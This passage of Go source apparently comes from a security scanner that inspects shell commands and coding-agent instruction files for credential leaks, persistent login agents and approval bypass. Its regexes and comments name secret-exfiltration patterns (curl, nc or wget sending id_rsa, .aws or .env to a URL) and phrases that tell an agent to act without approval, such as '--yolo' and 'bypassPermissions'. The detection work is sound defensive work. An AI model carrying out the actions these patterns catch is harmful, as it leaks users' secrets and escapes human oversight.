				quiet = "clq" // rg's -L follows symbolic links
			}
			if strings.ContainsAny(cluster, quiet) {
				return true
			}
		}
	}
	return false
}

// keptInCredentialDir reports a copy of a credential to a new name in the
// credential directory it is in (~/.kube/config to ~/.kube/config.bak-$(date +%s)):
// nothing leaves the place the credential already has.
func (c *command) keptInCredentialDir(src, dst arg) bool {
	if !src.lit {
		return false
	}
	d := dst.val
	if !dst.lit {
		// the written start of the destination, up to its first expansion
		d = strings.Trim(dst.src, `"'`)
		if i := strings.IndexAny(d, "$`"); i >= 0 {
			d = d[:i]
		}
		if strings.HasPrefix(d, "$HOME/") {
			d = "~/" + d[len("$HOME/"):]
		}
	}
	if strings.Contains(d, "..") || strings.ContainsAny(d, "*?[") || !strings.Contains(d, "/") {
		return false
	}
	for _, sp := range c.paths(src) {
		sdir, ok := credentialDirOf(sp)
		if !ok {
			continue
		}
		for _, dp := range c.paths(arg{val: d[:strings.LastIndex(d, "/")+1] + "x", lit: true}) {
			if ddir, ok := credentialDirOf(dp); ok && ddir == sdir {
				return true
			}
		}
	}
	return false
}

// credentialDirOf returns the credential directory (~/.kube, ~/.aws) a
// path is directly in.
func credentialDirOf(p string) (string, bool) {
	rel, ok := homePath(p)
	if !ok {
		return "", false
	}
	dir := path.Dir(rel)
	return dir, slices.Contains(credentialDirs, dir)
}

// isAgentFile reports a per-user agent definition that runs a program at
// login: a launchd agent (~/Library/LaunchAgents/NAME.plist) or a systemd
// user unit (~/.config/systemd/user/NAME.service).
func isAgentFile(p string) bool {
	rel, ok := homePath(p)
	if !ok {
		return false
	}
	dir, base := path.Split(rel)
	return dir == "Library/LaunchAgents/" && strings.HasSuffix(base, ".plist") ||
		dir == ".config/systemd/user/" && strings.HasSuffix(base, ".service")
}

var (
	plistProgramArgs = regexp.MustCompile(`(?s)<key>\s*ProgramArguments\s*</key>\s*<array>(.*?)</array>`)
	plistProgram     = regexp.MustCompile(`(?s)<key>\s*Program\s*</key>\s*<string>([^<]*)</string>`)
	plistString      = regexp.MustCompile(`(?s)<string>([^<]*)</string>`)
	unitExec         = regexp.MustCompile(`(?m)^\s*Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload|Condition)\s*=\s*[-@:+!]*(.*)$`)
)

// agentDefinitionCommands returns, as shell command lines, what an agent definition
// runs (a plist's Program and ProgramArguments, a unit's Exec lines), and
// whether the definition was read whole: it names a program and sets no
// loader variable (DYLD_*, LD_PRELOAD) that would run code in others.
func agentDefinitionCommands(p, text string) ([]string, bool) {
	if strings.Contains(text, "DYLD_") || strings.Contains(text, "LD_PRELOAD") || strings.Contains(text, "LD_LIBRARY_PATH") || strings.Contains(text, "&") {
		return nil, false // entities (&lt;) or loader variables: not read here
	}
	var out []string
	if strings.HasSuffix(p, ".plist") {
		args := plistProgramArgs.FindAllStringSubmatch(text, -1)
		prog := plistProgram.FindAllStringSubmatch(text, -1)
		if len(args) > 1 || len(prog) > 1 {
			return nil, false // a key given twice: which one launchd keeps is not read here
		}
		var words []string
		if len(args) == 1 {
			for _, s := range plistString.FindAllStringSubmatch(args[0][1], -1) {
				words = append(words, shellQuote(s[1]))
			}
		}
		if len(prog) == 1 {
			// Program is what runs; ProgramArguments is then its argv,
			// whose first word is only argv[0]
			words = append([]string{shellQuote(prog[0][1])}, words[min(1, len(words)):]...)
		}
		if len(words) > 0 {
			out = append(out, strings.Join(words, " "))
		}
		return out, len(out) == 1
	}
	for _, m := range unitExec.FindAllStringSubmatch(text, -1) {
		out = append(out, strings.TrimSpace(m[1]))
	}
	return out, len(out) > 0
}

// agentDefinitionRead reports an agent definition agentDefinitionCommands reads whole.
func agentDefinitionRead(p, text string) bool {
	_, ok := agentDefinitionCommands(p, text)
	return ok
}

// shellQuote quotes s as one shell word.
func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// isProjectEnvFile reports a project's secrets file (.env, .env.production,
// prod.env), not its committed template (.env.example, .env.sample), or a
// Terraform state (it keeps every resource's passwords and keys in the clear).
func isProjectEnvFile(p string) bool {
	base := path.Base(p)
	switch {
	case base == ".env" || strings.HasSuffix(base, ".tfstate") || strings.HasSuffix(base, ".tfstate.backup"):
		return true
	case strings.HasPrefix(base, ".env."):
		switch strings.TrimPrefix(base, ".env.") {
		case "example", "sample", "template", "tpl", "dist", "defaults", "schema":
			return false
		}
		return true
	}
	return false
}

// xtraceSecret judges a command run after set -x: the shell prints it to
// the job's output with its words expanded, so a word made of the worker's
// secret variable prints the secret (set -x; curl -H "Authorization:
// Bearer $GITHUB_TOKEN" ...).
func xtraceSecret(c *command, h *hits) {
	if !c.xtrace {
		return
	}
	for _, a := range c.args {
		if a.taint&taintEnv != 0 && secretVarName.MatchString(a.src) {
			h.add(ruleSecretPrint, "set -x prints "+c.name+"'s words expanded, with the worker's secret "+quoteDetail(a.src))
			return
		}
	}
}

// keyPrinters print the files they are given into the job's output.
var keyPrinters = map[string]bool{"cat": true, "tac": true, "head": true, "tail": true, "less": true, "more": true, "nl": true,
	"xxd": true, "od": true, "hexdump": true, "base64": true, "strings": true, "bat": true, "batcat": true}

// privateKeyFile matches the names private keys are kept under in a
// project or a system directory (cosign.key, tls.key, privkey.pem,
// server-key.pem), and NATS credentials and nkeys (admin.creds, user.nk),
// wherever they are.
var privateKeyFile = regexp.MustCompile(`^([\w.-]*[-_.])?(key|private|priv|privkey)\.pem$|^[\w.-]+\.key$|^id_(rsa|dsa|ecdsa|ed25519)$|^(AuthKey|ApiKey|SubscriptionKey)_\w+\.p8$|^[\w.-]+\.(creds|nk)$`)

// keyListPath is the last segment of an HTTP API path that lists a
// service's keys or tokens, varListPath one that lists its secret
// variables; userKeysPath is a list of a user's public keys (GET
// /users/alice/keys), which is not secret.
var (
	keyListPath  = regexp.MustCompile(`(?i)/(keys|api[-_]?keys|authorizations|tokens|access[-_]tokens|personal[-_]access[-_]tokens|secrets|credentials|service[-_]?keys|client[-_]?secrets?)(\.json)?/?$`)
	varListPath  = regexp.MustCompile(`(?i)/(env|envs|env[-_]?vars|environment[-_]variables|config[-_]?vars|variables)(\.json)?/?$`)
	userKeysPath = regexp.MustCompile(`(?i)/users?(/[^/]+)?/keys/?$`)
)

// keyListURL returns the taint of a word that is the URL of such a list.
func keyListURL(a arg) taint {
	v := a.val
	if !a.lit {
		v = strings.Trim(a.src, `"'`)
	}
	if !strings.Contains(v, "://") {
		return 0
	}
	if i := strings.IndexAny(v, "?#"); i >= 0 {
		v = v[:i]
	}
	switch {
	case keyListPath.MatchString(v) && !userKeysPath.MatchString(v):
		return taintKeyList
	case varListPath.MatchString(v):
		return taintVarList
	}
	return 0
}

// jqSecretField is a jq filter's pick of a secret's value: .key, .token,
// .api_key, .secret, .password, .value (an environment variable's).
var jqSecretField = regexp.MustCompile(`\.(key|token|api_?key|apiKey|secret|secret_?key|secretKey|secretText|value|password|access_?token|accessToken|plaintext|private_?key|privateKey|client_?secret|clientSecret)\b`)

// jqPassword is a jq filter's pick of a password or a client secret.
var jqPassword = regexp.MustCompile(`\.(password|passwd|client_secret|clientSecret|secret_key|secretKey|private_key|privateKey|"connection\.password")\b`)

// jqStrongSecret is a jq filter's pick of a field that is a secret
// whatever the service (a password, a client secret, a private key, a
// container's environment, a Kubernetes secret's decoded data).
var jqStrongSecret = regexp.MustCompile(`\.(password|passwd|client_secret|clientSecret|secret_key|secretKey|SecretID|private_key|privateKey|secretText|"connection\.password")\b|\.Config\.Env\b|\.payload\.data\b|@base64d`)

// matchKeyListPrint judges a JSON filter printing, into the job's output,
// the values of a key or secret list a service's API returned:
// curl .../keys | jq -r '.results[].key'. Picking names, counts or dates is
// a read; picking the keys prints what the job was not given.
func matchKeyListPrint(c *command, h *hits) {
	if c.captured {
		return
	}
	filter := jqFilter(c.args)
	if c.stdin.taint&taintDownload != 0 && jqStrongSecret.MatchString(filter) {
		h.add(ruleSecretPrint, c.name+" prints a secret field of what it downloaded, with "+quoteDetail(filter))
		return
	}
	if c.stdin.present && !c.stdin.known && !c.stdin.file && jqPassword.MatchString(filter) {
		// upstash redis get ... | jq -r .password: a program's output
		h.add(ruleSecretPrint, c.name+" prints a password field of a program's output, with "+quoteDetail(filter))
		return
	}
	if c.stdin.taint&(taintKeyList|taintVarList) == 0 {
		return
	}
	if c.stdin.taint&taintKeyList == 0 || strings.Contains(filter, "to_entries") || strings.Contains(filter, "with_entries") || strings.Contains(filter, "keys") {
		filter = strings.ReplaceAll(filter, ".key", "") // a variable's or an object's keys are its names
	}
	if jqSecretField.MatchString(filter) {
		h.add(ruleSecretPrint, c.name+" prints the keys or secrets a service's API listed, with "+quoteDetail(filter))
	}
}

// countsOnly reports a statement whose program prints only counts of what
// it reads (wc -l < FILE).
func countsOnly(s *syntax.Stmt) bool {
	call, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(call.Assigns) > 0 || len(call.Args) == 0 {
		return false
	}
	if call.Args[0].Lit() != "wc" {
		return false
	}
	words := make([]string, len(call.Args)-1)
	for i, a := range call.Args[1:] {
		words[i] = a.Lit()
	}
	return wcCounts(words)
}

// ruleApprovalConfig is the agents pack's rule for an agent's approvals
// configured away.
const ruleApprovalConfig = "agents:approval-config"

// agentInstructionFiles are the files coding agents read as standing
// instructions.
var agentInstructionFiles = map[string]bool{
	"CLAUDE.md": true, "CLAUDE.local.md": true, "AGENTS.md": true, "GEMINI.md": true, ".cursorrules": true,
	".windsurfrules": true, ".clinerules": true, "copilot-instructions.md": true,
}

// isAgentInstructions reports a file a coding agent reads as instructions.
func isAgentInstructions(p, base string) bool {
	return agentInstructionFiles[base] || strings.Contains("/"+p, "/.cursor/rules/") || strings.Contains("/"+p, "/.claude/commands/") ||
		strings.Contains("/"+p, "/.github/instructions/")
}

var (
	// mdCode is a fenced shell block or an inline code span of markdown.
	mdCode = regexp.MustCompile("(?s)```(?:sh|bash|shell|console|zsh)?[ \t]*\n(.*?)```|`([^`\n]+)`")
	// mdCommandSpan is an inline code span that reads as a command line:
	// a program's name and its arguments.
	mdCommandSpan = regexp.MustCompile(`^[A-Za-z_~/][\w./~-]*( [^()<>{}]*)?$`)
	// mdNegated is prose that tells the reader not to run what follows.
	mdNegated = regexp.MustCompile(`(?i)\b(never|don'?t|do not|avoid|must not|mustn'?t|should not|shouldn'?t|not|no|forbid\w*|prohibit\w*|instead of)\b[^.\n]*$`)
	// toldNoAsk is prose telling an agent to act without approval.
	toldNoAsk = regexp.MustCompile(`(?i)\b(never ask the user|never (ask|wait) for (confirmation|approval|permission)|without (the user'?s? )?(confirmation|approval|permission)|without asking the user|skip (all )?(confirmations?|approvals?|permission prompts?))\b|--yolo\b|--dangerously-\w+|bypassPermissions`)
)

// instructionCommands returns the commands in an instruction file's code,
// leaving out those the prose says not to run.
func instructionCommands(_, text string) []string {
	var out []string
	for _, m := range mdCode.FindAllStringSubmatchIndex(text, -1) {
		line := text[strings.LastIndexByte(text[:m[0]], '\n')+1 : m[0]]
		if mdNegated.MatchString(line) {
			continue // "never run `git push --force`"
		}
		if m[2] >= 0 {
			out = append(out, text[m[2]:m[3]]) // a fenced shell block
		} else if span := text[m[4]:m[5]]; mdCommandSpan.MatchString(span) {
			if _, err := parse(span); err == nil {
				out = append(out, span) // `make lint`, not `init()` or `*.test.ts`
			}
		}
	}
	return out
}

// toldSend is prose telling an agent to send a secret to a URL.
var toldSend = regexp.MustCompile(`(?i)\b(send|upload|post|copy|share|transmit|exfiltrate|forward|curl)\b[^\n]{0,120}(credentials|\.env\b|id_rsa|id_ed25519|\.aws\b|\.ssh\b|\.netrc|\.git-credentials|\btokens?\b|\bsecrets?\b|passwords?|api keys?)[^\n]{0,120}https?://|(credentials|\.env\b|id_rsa|id_ed25519|\.aws/|\.ssh/|\.netrc|\.git-credentials)[^\n]{0,120}\b(send|upload|post|curl|nc|wget)\b[^\n]{0,120}https?://`)

// ruleSecretSend is the egress pack's rule for a secret sent away.
const ruleSecretSend = "egress:secret-send" //nolint:gosec // a rule ID, not a credential

// toldNotToAsk returns the finding for instruction text that tells an
// agent to act without asking, or to send secrets away.
func toldNotToAsk(text string) (string, string) {
	if m := toldNoAsk.FindString(text); m != "" {
		return ruleApprovalConfig, "instructions tell the agent to act " + quoteDetail(m)
	}
	for _, m := range toldSend.FindAllStringIndex(text, -1) {
		line := text[strings.LastIndexByte(text[:m[0]], '\n')+1 : m[0]]
		if !mdNegated.MatchString(line+" ") && !strings.Contains(strings.ToLower(text[m[0]:m[1]]), "never") {
			return ruleSecretSend, "instructions tell the agent to send secrets to a URL"
		}
	}
	return "", ""
}
